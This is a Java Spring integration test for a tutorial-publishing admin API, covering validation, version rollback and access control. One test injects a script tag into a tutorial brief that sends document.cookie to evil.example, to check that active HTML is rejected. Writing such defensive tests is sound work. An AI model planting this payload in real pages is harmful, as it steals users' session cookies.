package dev.fivenines.api.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fivenines.api.support.IntegrationTest;
import dev.fivenines.api.support.TestTokens;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient;
import tools.jackson.databind.JsonNode;

/** Authors publish tutorial versions validated like the build, list them and roll back. */
@IntegrationTest
class AdminPublishingIT {

    private static final String SLUG = "single-node-key-value-core";

    @Autowired
    WebTestClient http;

    @AfterEach
    void backToBundledContent() {
        http.post().uri("/api/v1/admin/tutorials/{slug}/versions/0/activate", SLUG)
                .headers(h -> h.setBearerAuth(TestTokens.admin("root"))).exchange().expectStatus().isNoContent();
    }

    static Map<String, String> bundledFiles() throws IOException {
        Map<String, String> files = new LinkedHashMap<>();
        for (String name : new String[] {"tutorial.yaml", "brief.md", "rubric.yaml", "starter.d2", "solution.d2"}) {
            try (InputStream in = AdminPublishingIT.class.getResourceAsStream("/tutorials/" + SLUG + "/" + name)) {
                files.put(name, new String(in.readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        return files;
    }

    private WebTestClient.ResponseSpec publish(Map<String, String> files, String token) {
        return http.post().uri("/api/v1/admin/tutorials/{slug}/versions", SLUG)
                .headers(h -> h.setBearerAuth(token))
                .contentType(MediaType.APPLICATION_JSON).bodyValue(Map.of("files", files)).exchange();
    }

    private String brief() {
        return http.get().uri("/api/v1/tutorials/{slug}", SLUG).exchange().expectStatus().isOk()
                .expectBody(JsonNode.class).returnResult().getResponseBody().path("brief").asString();
    }

    @Test
    void publishWhenValidThenServedAndRollbackRestoresBundled() throws IOException {
        String bundledBrief = brief();
        Map<String, String> files = bundledFiles();
        files.put("brief.md", files.get("brief.md") + "\nA sentence added by an author.\n");

        JsonNode version = publish(files, TestTokens.admin("author")).expectStatus().isCreated()
                .expectBody(JsonNode.class).returnResult().getResponseBody();
        assertThat(version.path("active").asBoolean()).isTrue();
        assertThat(version.path("publishedBy").asString()).isEqualTo("author");
        assertThat(brief()).contains("A sentence added by an author.");

        http.get().uri("/api/v1/admin/tutorials/{slug}/versions", SLUG).headers(h -> h.setBearerAuth(TestTokens.admin("root")))
                .exchange().expectStatus().isOk()
                .expectBody().jsonPath("$.versions[0].version").isEqualTo(version.path("version").asInt())
                .jsonPath("$.versions[0].active").isEqualTo(true);

        backToBundledContent();
        assertThat(brief()).isEqualTo(bundledBrief);
    }

    @Test
    void publishWhenBundleBrokenThen400WithFileAndLineAndNothingChanges() throws IOException {
        String before = brief();
        int versionsBefore = versionCount();
        Map<String, String> files = bundledFiles();
        files.put("tutorial.yaml", "requirements:\n  - one\nconstraints: [\n");
        publish(files, TestTokens.admin("author")).expectStatus().isBadRequest()
                .expectHeader().contentType(MediaType.APPLICATION_PROBLEM_JSON)
                .expectBody()
                .jsonPath("$.errors[0].file").isEqualTo(SLUG + "/tutorial.yaml")
                .jsonPath("$.errors[0].line").isNumber();
        assertThat(brief()).isEqualTo(before);
        assertThat(versionCount()).isEqualTo(versionsBefore);
    }

    /** Probe 4.8: a brief with a script, an event handler and a script link was published and served as is. */
    @Test
    void publishWhenBriefHoldsActiveHtmlThen400WithFileAndLine() throws IOException {
        int versionsBefore = versionCount();
        Map<String, String> files = bundledFiles();
        files.put("brief.md", files.get("brief.md") + "\n<script>fetch('https://evil.example?c=' + document.cookie)</script>\n");
        int line = (int) files.get("brief.md").lines().count();
        publish(files, TestTokens.admin("author")).expectStatus().isBadRequest()
                .expectHeader().contentType(MediaType.APPLICATION_PROBLEM_JSON)
                .expectBody()
                .jsonPath("$.errors[0].file").isEqualTo(SLUG + "/brief.md")
                .jsonPath("$.errors[0].line").isEqualTo(line)
                .jsonPath("$.errors[0].message").value(m -> assertThat((String) m).contains("<script>"));
        assertThat(versionCount()).isEqualTo(versionsBefore);
    }

    @Test
    void getWhenTutorialPublishedThenBriefAlsoServedAsSanitisedHtml() {
        JsonNode tutorial = http.get().uri("/api/v1/tutorials/{slug}", SLUG).exchange().expectStatus().isOk()
                .expectBody(JsonNode.class).returnResult().getResponseBody();
        assertThat(tutorial.path("briefHtml").asString()).startsWith("<h1>").contains("<p>")
                .isEqualTo(BriefHtml.render(tutorial.path("brief").asString()));
    }

    @Test
    void publishWhenRubricChangedWithoutNewVersionThenRejected() throws IOException {
        Map<String, String> files = bundledFiles();
        files.put("rubric.yaml", files.get("rubric.yaml").replaceFirst("title: ([^\\n]+)", "title: $1 (reworded)"));
        publish(files, TestTokens.admin("author")).expectStatus().isBadRequest()
                .expectBody().jsonPath("$.errors[0].file").isEqualTo(SLUG + "/rubric.yaml");
    }

    @Test
    void publishWhenLearnerTokenThen403() throws IOException {
        publish(bundledFiles(), TestTokens.learner("sneaky")).expectStatus().isForbidden();
    }

    @Test
    void activateWhenVersionUnknownThen404() {
        http.post().uri("/api/v1/admin/tutorials/{slug}/versions/999/activate", SLUG)
                .headers(h -> h.setBearerAuth(TestTokens.admin("root"))).exchange().expectStatus().isNotFound();
    }

    private int versionCount() {
        return http.get().uri("/api/v1/admin/tutorials/{slug}/versions", SLUG)
                .headers(h -> h.setBearerAuth(TestTokens.admin("root"))).exchange()
                .expectBody(JsonNode.class).returnResult().getResponseBody().path("versions").size();
    }
}
